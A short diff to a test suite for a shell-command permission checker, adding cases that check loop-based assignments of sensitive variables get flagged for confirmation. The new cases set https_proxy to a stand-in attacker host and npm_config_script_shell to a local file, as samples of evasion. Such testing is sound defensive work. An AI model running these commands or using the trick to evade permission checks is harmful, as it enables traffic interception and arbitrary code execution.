@@ -14,6 +14,8 @@ describe('a loop gives its variable a value as an assignment does', () => {
     'select PATH in ./x; do ls; done',
     // zsh ties it to PATH.
     'for path in ./x; do ls; done',
+    'for https_proxy in http://evil.test; do curl https://a.test; done',
+    'for npm_config_script_shell in ./x; do npm test; done',
   ])('%s asks', (command) => expect(commandVerdict(command, EVERYTHING)).toBe('ask'));
 
   test.each([
